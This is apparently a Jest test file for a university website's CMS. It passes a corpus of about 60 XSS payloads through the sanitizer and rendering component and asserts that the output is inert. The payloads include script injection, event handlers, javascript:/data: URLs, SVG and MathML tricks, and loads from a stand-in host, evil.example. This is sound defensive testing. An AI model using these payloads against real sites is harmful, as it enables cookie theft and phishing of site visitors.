/**
 * @jest-environment node
 */
import { describe, expect, it } from '@jest/globals';
import { renderToStaticMarkup } from 'react-dom/server';
import { parseBlock } from '@/lib/content/blocks';
import type { BlockOf } from '@/lib/content/schema';
import { HtmlText } from './html-text';
import { blockContext } from '@/test/block-context';

/**
 * An XSS corpus through the real server path of an `html_text` block: `parseBlock` (schema +
 * sanitizer) and then the `HtmlText` component as the server renders it, with and without the
 * truncation filter. Whatever the CMS sends, the markup that reaches the browser must be inert.
 */

const context = blockContext({ index: 1 });

const B64_SCRIPT_HTML = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='; // <script>alert(1)</script>
const B64_SVG =
  'PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48aW1hZ2UgaHJlZj0iMSIgb25lcnJvcj0iYWxlcnQoMSkiLz48L3N2Zz4=';

/** [name, payload]: script tags, event handlers, dangerous URLs, SVG/MathML, style and embedding payloads. */
const CORPUS: [string, string][] = [
  // script tags in several casings and encodings
  ['script, lower case', '<script>alert(1)</script>'],
  ['script, upper case with src', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['script, mixed case', '<ScRiPt>alert(document.cookie)</sCrIpT>'],
  ['script, slash-separated attribute', '<script/xss src="//evil.example/x.js"></script>'],
  ['script, unbalanced angle brackets', '<<script>alert(1);//<</script>'],
  ['script, nested to survive one pass', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script, entity-encoded', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['script, inside a template', '<template><script>alert(1)</script></template>'],
  ['script, after an unknown tag with a handler', '<xss onafterscriptexecute=alert(1)><script>1</script></xss>'],
  // event handlers
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror, odd casing and quotes', '<IMG SRC="x" oNeRrOr=\'alert(1)\'>'],
  ['img with javascript: src', '<IMG SRC="javascript:alert(\'XSS\');">'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg/onload without a space', '<svg/onload=alert(1)>'],
  ['body onload', '<body onload=alert(1)><p>cuerpo</p></body>'],
  ['a onclick and onmouseover on an allowed tag', '<a href="/programas" onclick="alert(1)" onmouseover=alert(1)>programas</a>'],
  ['p with a handler and allowed attributes', '<p id="intro" class="lead" onmouseover="alert(1)">texto</p>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  // javascript:, vbscript: and data: URLs with whitespace and entity tricks
  ['a javascript:', '<a href="javascript:alert(1)">clic</a>'],
  ['a JaVaScRiPt: mixed case', '<a href="JaVaScRiPt:alert(1)">clic</a>'],
  ['a javascript: after whitespace and a control character', '<a href=" &#14;  javascript:alert(1)">clic</a>'],
  ['a javascript: split by a tab entity', '<a href="jav&#x09;ascript:alert(1)">clic</a>'],
  ['a javascript: split by a newline', '<a href="java\nscript:alert(1)">clic</a>'],
  [
    'a javascript: in decimal entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">clic</a>',
  ],
  ['a javascript: with hex entity and &colon;', '<a href="&#x6A;avascript&colon;alert(1)">clic</a>'],
  ['a vbscript:', '<a href="vbscript:msgbox(1)">clic</a>'],
  ['a VBScript: after spaces', '<a href="   VBScript:msgbox(1)">clic</a>'],
  ['a data:text/html base64', `<a href="data:text/html;base64,${B64_SCRIPT_HTML}">clic</a>`],
  ['a data:text/html with markup and leading space', '<a href=" data:text/html,<script>alert(1)</script>">clic</a>'],
  ['a protocol-relative URL', '<a href="//evil.example/phish">clic</a>'],
  ['table background javascript:', '<table background="javascript:alert(1)"><tr><td>celda</td></tr></table>'],
  // SVG payloads
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg use href data:', `<svg><use href="data:image/svg+xml;base64,${B64_SVG}#x"></use></svg>`],
  ['svg use xlink:href', '<svg><use xlink:href="https://evil.example/sprite.svg#x"></use></svg>'],
  ['svg a xlink:href javascript:', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
  ['svg animate to javascript:', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>'],
  ['svg foreignObject', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'],
  // style payloads
  ['style element with javascript: url', '<style>body{background:url(javascript:alert(1))}</style>'],
  ['style element with @import', '<style>@import "https://evil.example/x.css";</style>'],
  ['style attribute with javascript: url', '<p style="background:url(javascript:alert(1))">fondo</p>'],
  ['style attribute with expression()', '<div style="width: expression(alert(1))">ancho</div>'],
  ['link stylesheet javascript:', '<link rel="stylesheet" href="javascript:alert(1)">'],
  // embedding elements
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['iframe javascript: src', '<iframe src="javascript:alert(1)"></iframe>'],
  ['object data javascript:', '<object data="javascript:alert(1)"></object>'],
  ['object data: html', `<object type="text/html" data="data:text/html;base64,${B64_SCRIPT_HTML}"></object>`],
  ['embed data: html', `<embed src="data:text/html;base64,${B64_SCRIPT_HTML}">`],
  ['form action javascript:', '<form action="javascript:alert(1)"><button>Enviar</button></form>'],
  ['button formaction javascript:', '<form><button formaction="javascript:alert(1)">Enviar</button></form>'],
  // MathML payloads
  ['math mglyph/style mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['math href javascript:', '<math href="javascript:alert(1)">CLIC</math>'],
  ['math maction xlink:href', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  // document-level elements
  ['base href', '<base href="javascript:alert(1)//">'],
  ['base href to another origin', '<base href="https://evil.example/">'],
  ['meta refresh javascript:', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['meta refresh data:', `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${B64_SCRIPT_HTML}">`],
  // parser confusion
  ['noscript attribute breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['comment breakout', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['CDATA in html', '<![CDATA[<script>alert(1)</script>]]>'],
];

/** Tags the sanitizer allows (lib/content/sanitize.ts) plus what HtmlText itself renders. */
const ALLOWED_TAGS = new Set([
  'p', 'br', 'h2', 'h3', 'h4', 'strong', 'b', 'em', 'i', 'u', 'ul', 'ol', 'li', 'a', 'blockquote',
  'table', 'thead', 'tbody', 'tr', 'th', 'td', 'span', 'small', 'hr', 'section', 'div',
  'details', 'summary', // HtmlText's own "Leer más" around a truncated text
]);
const ALLOWED_ATTRIBUTES = new Set(['href', 'title', 'target', 'rel', 'scope', 'class', 'id', 'aria-labelledby']);

/** Decodes the character references a browser would decode in an attribute value. */
function decodeEntities(value: string): string {
  const named: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", colon: ':', tab: '\t', newline: '\n' };
  return value
    .replace(/&#x([\da-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&([a-z]+);/gi, (m, name: string) => named[name.toLowerCase()] ?? m);
}

type Tag = { name: string; attributes: { name: string; value: string }[] };

/** Every start tag of the markup with its attributes (values decoded). Text is escaped, so every `<` opens a tag. */
function startTags(html: string): Tag[] {
  const tags: Tag[] = [];
  for (const m of html.matchAll(/<([a-zA-Z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^'">])*)>/g)) {
    const attributes = [...(m[2] ?? '').matchAll(/([^\s"'=/>]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)].map((a) => ({
      name: (a[1] ?? '').toLowerCase(),
      value: decodeEntities(a[2] ?? a[3] ?? a[4] ?? ''),
    }));
    tags.push({ name: (m[1] ?? '').toLowerCase(), attributes });
  }
  return tags;
}

function htmlTextBlock(html: string, truncate?: number): BlockOf<'html_text'> {
  const raw = { id: 'xss-1', component: 'html_text', identifier: 'html_text', data: { title: 'Prueba', html, ...(truncate ? { truncate } : {}) } };
  const block = parseBlock(raw, { id: 'xss-1', component: 'html_text' });
  expect(block).not.toBeNull();
  expect(block?.component).toBe('html_text');
  return block as BlockOf<'html_text'>;
}

/** The server path: parse and sanitize the block, then render the real component to HTML. */
function render(html: string, truncate?: number): string {
  return renderToStaticMarkup(<HtmlText block={htmlTextBlock(html, truncate)} context={context} />);
}

function expectInert(output: string) {
  // Raw markup checks, as a reviewer would grep the page.
  expect(output).not.toMatch(/<script/i);
  expect(output).not.toMatch(/<svg/i);
  expect(output).not.toMatch(/<math/i);
  expect(output).not.toMatch(/<style/i);
  expect(output).not.toMatch(/<iframe/i);
  expect(output).not.toMatch(/<object/i);
  expect(output).not.toMatch(/<embed/i);
  expect(output).not.toMatch(/<base/i);
  expect(output).not.toMatch(/<meta/i);
  expect(output).not.toMatch(/<link/i);
  expect(output).not.toMatch(/<form/i);
  expect(output).not.toMatch(/<img/i);

  // Structural checks on every tag and attribute that reached the output.
  for (const tag of startTags(output)) {
    expect(ALLOWED_TAGS).toContain(tag.name);
    for (const attribute of tag.attributes) {
      expect(attribute.name).not.toMatch(/^on/);
      expect(attribute.name).not.toBe('style');
      expect(ALLOWED_ATTRIBUTES).toContain(attribute.name);
      // What a browser would resolve: control characters and whitespace are ignored in a scheme.
      const compact = attribute.value.replace(/[\u0000-\u0020\u007f]/g, '').toLowerCase();
      expect(compact).not.toMatch(/^(javascript|vbscript|data|livescript):/);
      if (attribute.name === 'href') expect(compact).toMatch(/^(\/(?!\/)|#|https?:|mailto:|tel:|[^:]*$)/);
    }
  }
}

describe('html_text XSS corpus through parseBlock + HtmlText', () => {
  it('has a corpus of at least 25 vectors', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(25);
  });

  it.each(CORPUS)('%s renders inert', (_name, payload) => {
    const output = render(`<p>Antes</p>${payload}<p>Después</p>`);
    expectInert(output);
    // The block itself still renders: the title and the harmless neighbours survive.
    expect(output).toMatch(/<h2 id="[^"]+">Prueba<\/h2>/);
    expect(output).toContain('<p>Antes</p>');
    // A payload that leaves a raw-text element open (`<style>…`) swallows what follows; all others do not.
    if (!/<style>(?![\s\S]*<\/style>)/i.test(payload)) expect(output).toContain('<p>Después</p>');
  });

  it.each(CORPUS)('%s renders inert through the truncation filter too', (_name, payload) => {
    expectInert(render(`<p>Un texto introductorio bastante largo</p>${payload}<p>Después</p>`, 60));
    expectInert(render(payload, 12));
  });

  it('the whole corpus in one document renders inert', () => {
    expectInert(render(CORPUS.map(([, payload]) => payload).join('\n')));
  });

  it('also rejects the raw payload checks on the raw output (no on…= attribute, no style=, no dangerous URL)', () => {
    const output = render(CORPUS.map(([, payload]) => payload).join('\n'));
    const markupOnly = startTags(output)
      .map((t) => `<${t.name} ${t.attributes.map((a) => `${a.name}="${a.value}"`).join(' ')}>`)
      .join('');
    expect(markupOnly).not.toMatch(/\son\w+=/i);
    expect(markupOnly).not.toMatch(/\sstyle=/i);
    expect(markupOnly).not.toMatch(/(javascript|vbscript|data):/i);
  });

  it('keeps harmless formatting: paragraphs, strong, in-app links and lists', () => {
    const output = render(
      '<p>Estudia <strong>Ingeniería</strong> y <em>más</em>: conoce <a href="/programas">nuestros programas</a>.</p>' +
        '<ul><li>Pregrado</li><li>Posgrado</li></ul><ol><li>Inscríbete</li></ol>' +
        '<h3>Requisitos</h3><p><a href="mailto:admisiones@example.edu.co">Escríbenos</a></p>',
    );
    expectInert(output);
    expect(output).toContain('<strong>Ingeniería</strong>');
    expect(output).toContain('<em>más</em>');
    expect(output).toContain('<a href="/programas">nuestros programas</a>');
    expect(output).toContain('<ul><li>Pregrado</li><li>Posgrado</li></ul>');
    expect(output).toContain('<ol><li>Inscríbete</li></ol>');
    expect(output).toContain('<h3>Requisitos</h3>');
    expect(output).toContain('<a href="mailto:admisiones@example.edu.co">Escríbenos</a>');
  });

  it('keeps an allowed link and drops only its handler', () => {
    const output = render('<p><a href="/programas" onclick="alert(1)">programas</a></p>');
    expect(output).toContain('<a href="/programas">programas</a>');
  });

  it('opens external links in a new tab without an opener', () => {
    const output = render('<p><a href="https://www.mineducacion.gov.co" onmouseover="alert(1)">MEN</a></p>');
    expect(output).toMatch(/<a href="https:\/\/www\.mineducacion\.gov\.co" target="_blank" rel="noopener noreferrer">MEN<\/a>/);
    expectInert(output);
  });
});
